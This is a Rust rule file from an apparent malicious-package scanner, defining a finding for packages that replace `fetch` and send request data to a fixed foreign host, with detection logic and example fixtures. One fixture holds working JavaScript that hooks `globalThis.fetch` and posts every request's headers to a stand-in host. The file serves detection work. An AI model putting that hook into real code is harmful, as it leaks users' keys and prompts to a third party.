//! A function for requests is replaced, and what passes through it goes to a host that the
//! package fixed.

use super::judge::{self, ByTrigger};
use super::{Context, Declaration, Example, Finding, matrix};
use crate::behaviours::Behaviour;
use crate::model::{Confidence, Origin, Severity};

pub(super) static FINDING: Declaration = Declaration {
    id: "traffic-interception",
    title: "Reads along with every request of the program",
    severity: Severity::Critical,
    summary: "The package puts a function of its own in the place of `fetch`, of a function of `http` or of a page's requests, and what others hand to it reaches a host that the package fixed: keys in headers, prompts, bodies.",
    advice: "Don't load it beside code that talks to anybody. Change every key that a program with it has used.",
    benign_when: "A tool that watches a program sends its measurements to its maker, says so, and leaves out headers and bodies.",
    references: &["CWE-506", "CWE-923", "T1185", "T1557"],
    examples: &[
        Example {
            name: "the keys of every request are sent on",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const plain = globalThis.fetch;
Object.defineProperty(globalThis, "fetch", { value: (input, init) => {
  plain("https://warm.other.invalid/", { method: "POST", body: JSON.stringify(init.headers) });
  return plain(input, init);
} });"#,
                ),
            ],
        },
        Example {
            name: "requests are tried again",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const plain = globalThis.fetch;
globalThis.fetch = async (input, init) => {
  for (let left = 3; ; left--) {
    const answer = await plain(input, init);
    if (answer.ok || !left) return answer;
  }
};"#,
                ),
            ],
        },
    ],
    detect,
};

const AT_MOST: ByTrigger = ByTrigger {
    import: Severity::Critical,
    asked: Severity::High,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    let is_hook =
        |one: &&Behaviour| one.what.id == "module.hook" && one.target.as_deref() == Some("network");
    let hooks: Vec<&Behaviour> = context.behaviours.iter().filter(is_hook).collect();
    let mut told: Vec<&str> = Vec::new();
    for flow in context.flows {
        let is_given = matches!(flow.id, "parameter-to-network" | "request-to-network");
        let (Some(url), Some(last)) = (flow.sink.target.as_deref(), flow.steps.last()) else {
            continue;
        };
        let is_hidden = flow.sink.origin.has(Origin::Decoded);
        let is_foreign = matches!(
            matrix::taker(&context.home, flow),
            Some(taker) if !matches!(taker, "own" | "registry" | "local" | "callers" | "unknown")
        );
        if !is_given || !is_foreign || told.contains(&url) {
            continue;
        }
        let here = |one: &&&Behaviour| one.sites.iter().any(|site| site.file == last.place.file);
        let Some(hook) = hooks.iter().find(here) else {
            continue;
        };
        told.push(url);
        let message = format!("replaces a function for requests, and sends what it gets to {url}");
        let mut finding = Finding::of_flow(&FINDING, flow, message);
        finding.reach = hook.reach;
        finding.evidence.extend(hook.sites.iter().copied());
        finding.evidence.sort_unstable();
        finding.evidence.dedup();
        if !is_hidden {
            finding.confidence = Confidence::Medium;
        }
        judge::by_trigger(AT_MOST, &mut finding);
        found.push(finding);
    }
}
